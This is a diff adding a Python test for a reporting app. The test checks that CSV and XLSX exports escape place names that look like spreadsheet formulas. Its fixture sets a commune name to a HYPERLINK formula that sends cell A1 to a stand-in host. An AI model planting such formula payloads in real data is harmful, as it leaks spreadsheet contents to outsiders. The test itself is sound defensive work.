@@ -135,3 +135,26 @@ def test_api_values_and_submissions(
     r = c.get("/api/v1/reporting/forms/QCDC-Q/submissions", {"place": province.code, "period": "2025Q4"})
     assert r.status_code == 200 and {u["status"] for u in r.json()} == {"approved"}
     assert client.get("/api/v1/reporting/indicators").status_code == 200
+
+
+def test_a_place_named_like_a_formula_is_text_in_both_exports(
+    reported: Any, client_as: Any, steering_member: Any, province: Any, commune: Any
+) -> None:
+    """Village and commune names are typed by officers (the API creates villages): an export an
+    officer opens in a spreadsheet must not run one as a formula. openpyxl stores a string that
+    starts with "=" as a formula, so the XLSX needs the guard as much as the CSV."""
+    import io
+
+    from openpyxl import load_workbook
+
+    commune.name = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
+    commune.save(update_fields=["name"])
+    c = client_as(steering_member)
+    url = reverse("reporting:export", args=[province.code, "children", "csv"]) + "?period=2025"
+    body = c.get(url + "&indicator=onestop.received").content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in body and "\n=HYPERLINK" not in body
+    url = reverse("reporting:export", args=[province.code, "children", "xlsx"]) + "?period=2025"
+    ws = load_workbook(io.BytesIO(c.get(url + "&indicator=onestop.received").content)).worksheets[0]
+    cells = [cell for row in ws.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'=HYPERLINK" in {str(cell.value)[:11] for cell in cells}
